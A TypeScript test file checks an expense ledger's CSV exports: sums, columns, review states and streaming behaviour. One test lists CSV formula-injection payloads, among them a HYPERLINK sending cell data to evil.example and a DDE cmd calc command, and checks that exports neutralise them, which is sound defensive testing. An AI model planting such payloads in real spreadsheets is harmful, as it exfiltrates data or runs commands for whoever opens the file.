import { setFlagsFromString } from 'node:v8'
import { runInNewContext } from 'node:vm'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { personOf } from '#lib/audit/test-support/test-actor.ts'
import { createTestDatabase, type TestDatabase } from '#lib/db/test-support/test-database.ts'
import type { ConnectionId, OrganizationId, UserId } from '#lib/ids.ts'
import type { LineTotal, MatrixFigures } from '#lib/ledger/model.ts'
import { DEFAULT_GROUP_QUERY, type GroupQuery } from '#lib/ledger/query/group-query.ts'
import { DEFAULT_LINE_QUERY, type LineFilters, type LineQuery } from '#lib/ledger/query/line-query.ts'
import { MATRIX_QUERY } from '#lib/ledger/query/matrix-query.ts'
import { getOverview } from '#lib/ledger/read/get-overview.ts'
import { listGroups } from '#lib/ledger/read/list-groups.ts'
import { listLines } from '#lib/ledger/read/list-lines.ts'
import { getMatrix } from '#lib/ledger/read/matrix/get-matrix.ts'
import { decide } from '#lib/ledger/review/decide.ts'
import type { Asked } from '#lib/ledger/review/line-set.ts'
import { previewDecision } from '#lib/ledger/review/preview-decision.ts'
import {
  day,
  decimal,
  makeLine,
  makeLineOf,
  seedConnection,
  seedLines,
  seedOrganization,
} from '#lib/ledger/test-support/seed.ts'
import { makeVariedLines, sumExactly, toPlainValue } from '#lib/ledger/test-support/seed-varied-lines.ts'
import { dayOf } from '#lib/reconcile/day.ts'
import { GROUP_KEYS, type GroupKey, SHARED_KEYS } from '#lib/reconcile/group-keys.ts'
import type { ProvedLine } from '#lib/reconcile/records.ts'
import { stateOf } from '#lib/reconcile/verdict.ts'
import { guardFormula } from './csv.ts'
import { LINE_COLUMNS } from './line-columns.ts'
import { CSV_FILES } from './stream-csv.ts'
import { parseCsvRecords, parseCsvStrictly, readAll } from './test-support/test-parse-csv.ts'

let database: TestDatabase
let organizationId: OrganizationId
let connectionId: ConnectionId
let userId: UserId
const lines = [
  ...makeVariedLines(700),
  // its price holds the tax: both checks have that reason
  makeLine({
    unitPrice: decimal('119.00'),
    taxAmount: decimal('19.00'),
    totalAmount: decimal('119.00'),
    tripId: 'rated',
  }),
  // its tax is also on the non-taxable part; nothing explains the total
  makeLine({
    unitPrice: decimal('100.00'),
    nonTaxableUnitPrice: decimal('50.00'),
    taxAmount: decimal('28.50'),
    totalAmount: decimal('200.00'),
    tripId: 'rated',
  }),
]

beforeAll(async () => {
  database = await createTestDatabase()
  const owner = await seedOrganization(database.query)
  organizationId = owner.organizationId
  userId = owner.userId
  connectionId = await seedConnection(database.query, owner)
  await seedLines(organizationId, connectionId, lines)
})
afterAll(() => database.drop())

/** A request of one user that stays until the end. */
const somebody = () => ({ userId: 'somebody', signal: new AbortController().signal })
const lineQuery = (change: Partial<LineQuery> = {}): LineQuery => ({ ...DEFAULT_LINE_QUERY, ...change })
const groupQuery = (change: Partial<GroupQuery> = {}): GroupQuery => ({ ...DEFAULT_GROUP_QUERY, ...change })
const readLines = async (change?: Partial<LineQuery>) =>
  parseCsvRecords(await readAll(await CSV_FILES.lines.stream(organizationId, somebody(), lineQuery(change))))
const readGroups = async (change?: Partial<GroupQuery>) =>
  parseCsvRecords(await readAll(await CSV_FILES.groups.stream(organizationId, somebody(), groupQuery(change))))

/** A decimal in millionths: more digits than any of these lines have. */
const toUnits = (text: string) => {
  const [whole = '', fraction = ''] = text.split('.')
  return BigInt(`${whole}${fraction.padEnd(6, '0')}`)
}

/** A file's sums per currency in whole numbers, shaped like the screen's totals. */
function sumFile(rows: Record<string, string>[]) {
  return [...new Set(rows.map((row) => row.currency as string))].sort().map((currency) => {
    const own = rows.filter((row) => row.currency === currency)
    return { currency, totalAmount: sumExactly(own.map((row) => row.total_amount as string)) }
  })
}
const toSums = (totals: LineTotal[]) =>
  totals.map(({ currency, totalAmount }) => ({ currency, totalAmount: toPlainValue(totalAmount) }))

describe('F32', () => {
  const filters: [string, Partial<LineFilters>][] = [
    ['all lines', {}],
    ['one vertical and the unknown one', { verticals: ['flight', ''] }],
    ['one currency with findings', { currencies: ['KWD'], findingsOnly: true }],
    ['a span of days', { from: day('2026-01-15'), to: day('2026-02-20') }],
    ['a text', { text: 'vendor 1' }],
    ['nothing', { trips: ['none'] }],
  ]
  // each key in every place; a line may be in several groups by keys that it shares
  const keys = GROUP_KEYS.filter((key) => !SHARED_KEYS.some((shared) => shared === key))
  const combinations = keys.flatMap((_, at) =>
    [[0], [0, 5, 9]].map((by) => by.map((each) => keys[(at + each) % keys.length] as GroupKey)),
  )

  test.each(filters)(
    'the same sum in list, groups by every key, both files and the database: %s',
    async (_, filter) => {
      const list = await listLines(organizationId, lineQuery(filter))
      const screen = toSums(list.totals)
      const file = await readLines(filter)
      expect(sumFile(file)).toEqual(screen)
      expect(file).toHaveLength(list.lineCount)
      const ids = file.map((row) => row.id)
      const stored = await database.query<{ currency: string; total: string }>(
        'select currency, sum(total_amount)::text as total from line where organization_id = $1 and id = any($2) group by 1 order by 1',
        [organizationId, ids],
      )
      expect(stored.map(({ currency, total }) => ({ currency, totalAmount: toPlainValue(total) }))).toEqual(screen)
      for (const by of combinations) {
        const groups = await listGroups(organizationId, groupQuery({ ...filter, by }))
        expect(toSums(groups.totals)).toEqual(screen)
        const groupFile = await readGroups({ ...filter, by })
        expect(sumFile(groupFile)).toEqual(screen)
        expect(groupFile.reduce((count, row) => count + Number(row.line_count), 0)).toBe(list.lineCount)
        const findings = list.totals.reduce((count, total) => count + total.findingCount, 0)
        expect(groupFile.reduce((count, row) => count + Number(row.finding_count), 0)).toBe(findings)
      }
    },
  )
})

describe('the lines file', () => {
  test('has the documented header and every line once, in list order, on any page', async () => {
    const text = await readAll(
      await CSV_FILES.lines.stream(organizationId, somebody(), lineQuery({ page: 3, pageSize: 25 })),
    )
    const [header, ...rows] = parseCsvStrictly(text)
    expect(header).toEqual(LINE_COLUMNS.map(({ name }) => name))
    expect(header?.join(',')).toBe(
      'id,expense_date,description,quantity,unit_price,non_taxable_unit_price,tax_percentage,tax_amount,tax_regime,total_amount,currency,invoice_serial_number,invoice_mode,invoice_status,issuing_date,due_date,profile_id,profile_name,trip_id,trip_name,service,related_vertical,cost_center,start_date,end_date,travelers,booker,vendor_code,vendor_name,out_of_policy,credit_card_last_4_digits,labels,include_breakfast,finding_codes,expected_total_amount,difference,expected_tax_amount,tax_difference,note_codes,connection_id,connection_name,explained_codes,reason_codes,unexplained_difference,is_gone,country_code,custom_fields,review,review_reason,review_by,review_at',
    )
    expect(rows).toHaveLength(lines.length)
    const page = await listLines(organizationId, lineQuery({ pageSize: 200 }))
    expect(rows.slice(0, 200).map(([id]) => id)).toEqual(page.rows.map(({ id }) => id))
  })

  test('has each value as stored', async () => {
    const byId = new Map((await readLines()).map((row) => [row.id, row]))
    for (const line of lines) {
      expect(byId.get(line.id)).toMatchObject({
        quantity: line.quantity,
        total_amount: line.totalAmount,
        tax_amount: line.taxAmount,
        expense_date: line.expenseDate,
        issuing_date: line.issuingDate ?? '',
        trip_id: line.tripId ?? '',
        cost_center: line.costCenter ?? '',
        finding_codes: line.proof.findings.map(({ code }) => code).join(' '),
        difference: line.proof.difference,
        out_of_policy: String(line.outOfPolicy ?? ''),
        travelers: line.travelerNames.join('; '),
        connection_name: 'Acme Europe',
      })
    }
  })

  test('states the difference that has no reason, and sums it up to what the overview says', async () => {
    const file = await readLines()
    expect(file.filter(({ trip_id }) => trip_id === 'rated').map((row) => row.unexplained_difference)).toEqual(
      expect.arrayContaining(['0', '31.00']),
    )
    for (const row of file) {
      const codes = (text: string | undefined) => text?.split(' ').filter(Boolean) ?? []
      const line = {
        currency: row.currency as string,
        difference: decimal(row.difference as string),
        taxDifference: decimal(row.tax_difference as string),
        findingCodes: codes(row.finding_codes),
        explainedCodes: codes(row.explained_codes),
        reasonCodes: codes(row.reason_codes),
      }
      const isOpen = stateOf({ line }) === 'unexplained'
      const whole = toUnits(row.difference as string) + toUnits(row.tax_difference as string)
      expect([row.id, toUnits(row.unexplained_difference as string)]).toEqual([row.id, isOpen ? whole : 0n])
    }
    const { findings } = await getOverview(organizationId, dayOf(0))
    const open = findings.filter(({ outcome }) => outcome === 'unexplained')
    expect(open.length).toBeGreaterThan(0)
    for (const { currency, overcharged, undercharged } of open) {
      const own = file.filter((row) => row.currency === currency)
      const sum = own.reduce((total, row) => total + toUnits(row.unexplained_difference as string), 0n)
      expect(sum).toBe(toUnits(overcharged) - toUnits(undercharged))
    }
  })

  test('says of each line whether the platform no longer has it', async () => {
    const [gone] = lines as [ProvedLine]
    const mark = (since: string) =>
      database.query(`update line set missing_since = ${since} where connection_id = $1 and id = $2`, [
        connectionId,
        gone.id,
      ])
    await mark('now()')
    const isGone = (rows: Record<string, string>[]) => rows.map((row) => [row.id, row.is_gone])
    expect(isGone(await readLines({ goneOnly: true }))).toEqual([[gone.id, 'true']])
    expect(isGone(await readLines())).toEqual(expect.arrayContaining([[lines[1]?.id, 'false']]))
    expect(isGone(await readLines())).not.toContainEqual(expect.arrayContaining(['true']))
    await mark('null')
  })

  test('says where each line stands, and why, by whom and when it was decided', async () => {
    const [first, second, third] = lines as [ProvedLine, ProvedLine, ProvedLine]
    const decideNow = async (asked: Asked, reason: string | null, name: string) => {
      const seen = await previewDecision(organizationId, asked)
      const wish = { asked, ...seen, reason, note: null, expectedBack: null }
      expect((await decide(organizationId, { actor: personOf(userId), name }, wish)).kind).toBe('decided')
    }
    const setOf = (...ids: string[]) => ({
      query: DEFAULT_LINE_QUERY,
      only: ids.map((id) => `${connectionId}~${id}`),
    })
    await decideNow({ kind: 'accept', set: setOf(first.id, second.id, third.id) }, 'agreed', 'Ana')
    await decideNow({ kind: 'dispute', set: setOf(second.id) }, 'wrong_tax', 'Ben')
    await decideNow({ kind: 'withdraw', set: setOf(third.id) }, null, 'Ben')
    const [decided] = await database.query<{ at: Date }>('select decided_at as at from decision where number = 2')
    const rows = await readLines()
    expect(rows).toHaveLength(lines.length)
    const of = (id: string) => rows.find((row) => row.id === id)
    expect(of(first.id)).toMatchObject({
      review: 'accepted',
      review_reason: 'Agreed with the platform',
      review_by: 'Ana',
    })
    expect(of(second.id)).toMatchObject({
      review: 'disputed',
      review_reason: 'Wrong tax',
      review_by: 'Ben',
      review_at: decided?.at.toISOString().replace(/\.\d+/, ''),
    })
    expect(of(third.id)).toMatchObject({ review: 'open', review_reason: '', review_by: '', review_at: '' })
    // it changed since: it is not as it was decided, and says by whom it was
    await database.query('update line set total_amount = total_amount + 1 where connection_id = $1 and id = $2', [
      connectionId,
      first.id,
    ])
    expect((await readLines()).find(({ id }) => id === first.id)).toMatchObject({
      review: 'suspended',
      review_by: 'Ana',
    })
    await database.query('update line set total_amount = total_amount - 1 where connection_id = $1 and id = $2', [
      connectionId,
      first.id,
    ])
  })

  test('a query without lines returns only the header', async () => {
    expect(
      await readAll(await CSV_FILES.lines.stream(organizationId, somebody(), lineQuery({ trips: ['none'] }))),
    ).toMatch(
      /^id,.*connection_name,explained_codes,reason_codes,unexplained_difference,is_gone,country_code,custom_fields,review,review_reason,review_by,review_at\r\n$/,
    )
  })
})

describe('the matrix file', () => {
  test('is what the screen has: its columns, its page, the groups inside open ones, and the total of all', async () => {
    const query = {
      ...MATRIX_QUERY.empty,
      by: ['invoice', 'label'] as GroupKey[],
      across: 'month' as const,
      measure: 'tax' as const,
      open: ['INV-01-0003'],
      page: 1,
      pageSize: 25,
    }
    const matrix = await getMatrix(organizationId, query)
    const [header = [], ...rows] = parseCsvStrictly(
      await readAll(await CSV_FILES.matrix.stream(organizationId, somebody(), query)),
    )
    const months = matrix.columns.map(({ value }) => `month ${value}`)
    const [before, after] = [
      ['row', 'group', 'inner_group', 'name', 'currency', 'line_count'],
      ['total', 'share_percent', 'compared_total', 'change', 'change_percent'],
    ]
    expect(header).toEqual([before, months, after].flat())
    const toCells = (kind: string, [outer = null, inner = null]: (string | null)[], figures: MatrixFigures) =>
      [kind, outer, inner, null, matrix.currency, String(figures.lineCount)]
        .concat(figures.cells, figures.total, figures.share, null, null, null)
        .map((cell) => cell ?? '')
    expect(rows).toEqual([
      ...matrix.rows.map((row) => toCells(row.values.length === 1 ? 'group' : 'inner group', row.values, row)),
      toCells('total', [], matrix.all),
    ])
    expect(rows.filter(([kind]) => kind === 'inner group').length).toBeGreaterThan(1)
  })
})

describe('the groups file', () => {
  test('has the keys by their wire names in the order of grouping, then the figures', async () => {
    const text = await readAll(
      await CSV_FILES.groups.stream(
        organizationId,
        somebody(),
        groupQuery({ by: ['cost_center', 'trip', 'vertical'] }),
      ),
    )
    expect(parseCsvStrictly(text)[0]).toEqual([
      'cost_center',
      'trip_id',
      'trip_name',
      'related_vertical',
      'currency',
      'line_count',
      'total_amount',
      'finding_count',
    ])
  })

  test('names a trip the same in every row, and leaves the cell of an unknown key empty', async () => {
    const rows = await readGroups({ by: ['trip', 'vertical'] })
    const labels = new Map(
      (await listGroups(organizationId, groupQuery({ pageSize: 200 }))).rows.map(({ values: [entry] }) => [
        entry?.value ?? '',
        entry?.label ?? '',
      ]),
    )
    for (const row of rows) expect(row.trip_name).toBe(labels.get(row.trip_id as string))
    expect(rows.some((row) => row.trip_id === '')).toBe(true)
    expect(rows.some((row) => row.related_vertical === '')).toBe(true)
  })
})

describe('A13', () => {
  const hostile = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1+1)*cmd',
    '\t=1',
    '\r=1',
    ' =1',
    '\uff1d1+1',
    'said "x", then; a\ttab',
    'first\r\nsecond\nthird\rfourth',
    '"',
    '""',
    ',',
    "'quoted",
    'Caf\u00e9 \u{1F389} \u202e',
  ]
  test('hostile cells come back whole, none starts a formula, refunds stay numbers and the sums stay right', async () => {
    const special = hostile.map((text, index) =>
      makeLineOf(index % 2 === 0 ? '-48700' : '-0.05', {
        currency: index % 2 === 0 ? 'JPY' : 'EUR',
        description: text,
        tripId: 'hostile',
        tripName: text,
        costCenter: text,
        vendorName: text,
        invoiceStatus: text,
        service: text,
        labels: [text],
      }),
    )
    await seedLines(organizationId, connectionId, special)
    const rows = await readLines({ trips: ['hostile'] })
    expect(rows).toHaveLength(special.length)
    for (const line of special) {
      const row = rows.find(({ id }) => id === line.id)
      const guarded = guardFormula(line.description)
      expect(row).toMatchObject({
        description: guarded,
        trip_name: guarded,
        cost_center: guarded,
        vendor_name: guarded,
        invoice_status: guarded,
        service: guarded,
        labels: guarded,
      })
      expect(row?.total_amount).toBe(line.totalAmount)
    }
    const numeric = LINE_COLUMNS.filter(({ kind }) => kind === 'amount').map(({ name }) => name)
    for (const row of rows)
      for (const [name, cell] of Object.entries(row)) {
        if (numeric.includes(name)) expect(cell).toMatch(/^-?\d+(\.\d+)?$/)
        else expect(cell).not.toMatch(/^[\s\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]/)
      }
    const groups = await readGroups({ trips: ['hostile'], by: ['cost_center'] })
    expect(groups.map((row) => row.cost_center).toSorted()).toEqual(hostile.map(guardFormula).toSorted())
    expect(sumFile(groups)).toEqual(toSums((await listLines(organizationId, lineQuery({ trips: ['hostile'] }))).totals))
    await database.query(`delete from line where trip_id = 'hostile'`)
  })
})

const openTransactions = () =>
  database.query(
    `select pid from pg_stat_activity where datname = current_database() and state like 'idle in transaction%'`,
  )

/** A reading transaction that is over may end a moment later. */
const expectOpen = (count: number) =>
  vi.waitFor(async () => {
    const open = await openTransactions()
    expect(open).toHaveLength(count)
    return open
  })

describe('the stream', () => {
  test('a reader that leaves gives the database connection back', async () => {
    const stream = await CSV_FILES.lines.stream(organizationId, somebody(), lineQuery())
    const reader = stream.getReader()
    await reader.read()
    await expectOpen(1)
    await reader.cancel()
    await expectOpen(0)
  })

  test('a reader that leaves during a read breaks nothing', async () => {
    const stream = await CSV_FILES.lines.stream(organizationId, somebody(), lineQuery())
    const reader = stream.getReader()
    const reading = reader.read()
    await reader.cancel()
    await reading
    await expectOpen(0)
  })

  test('a file read to its end gives the database connection back', async () => {
    await readLines()
    await expectOpen(0)
  })

  test('a failure on the way breaks the download: a file is never silently too short', async () => {
    const stream = await CSV_FILES.lines.stream(organizationId, somebody(), lineQuery())
    const reader = stream.getReader()
    expect((await reader.read()).done).toBe(false)
    const [open] = await expectOpen(1)
    await database.query('select pg_terminate_backend($1)', [open?.pid])
    await expect(reader.read()).rejects.toThrow()
    await expect(reader.read()).rejects.toThrow()
    expect((await readLines()).length).toBe(lines.length)
  })

  test('a query that cannot start is an ordinary error, before any byte', async () => {
    await expect(CSV_FILES.lines.stream('no organization', somebody(), lineQuery())).rejects.toThrow('uuid')
    await expectOpen(0)
  })

  test('memory does not grow with the file: all 200,000 lines arrive', { timeout: 120_000 }, async () => {
    const owner = await seedOrganization(database.query, 'Large')
    const connection = await seedConnection(database.query, owner)
    await seedLines(owner.organizationId, connection, [makeLine({ id: 'template' })])
    const columns = await database.query<{ name: string }>(
      `select string_agg(column_name, ', ') as name from information_schema.columns
       where table_name = 'line' and column_name not in ('id', 'finding_count')`,
    )
    // the sums of these lines are asked for by nobody
    await database.query('alter table line disable trigger user')
    await database.query(
      `insert into line (id, ${columns[0]?.name}) select 'copy-' || n, ${columns[0]?.name} from line, generate_series(2, 200000) n
       where organization_id = $1 and id = 'template'`,
      [owner.organizationId],
    )
    await database.query('alter table line enable trigger user')
    setFlagsFromString('--expose-gc')
    const collect = runInNewContext('gc') as () => void
    const stream = await CSV_FILES.lines.stream(owner.organizationId, somebody(), lineQuery())
    let newlines = 0
    let chunks = 0
    let baseline = 0
    let peak = 0
    for await (const chunk of stream) {
      newlines += Buffer.from(chunk).toString('latin1').split('\n').length - 1
      chunks += 1
      if (chunks % 40 !== 0) continue
      // buffers are freed beside the collection: the second waits for the first
      collect()
      collect()
      const { heapUsed, external } = process.memoryUsage()
      if (chunks === 40) baseline = heapUsed + external
      peak = Math.max(peak, heapUsed + external)
    }
    expect(newlines).toBe(200_001)
    expect(peak - baseline).toBeLessThan(8 * 1024 * 1024)
  })
})
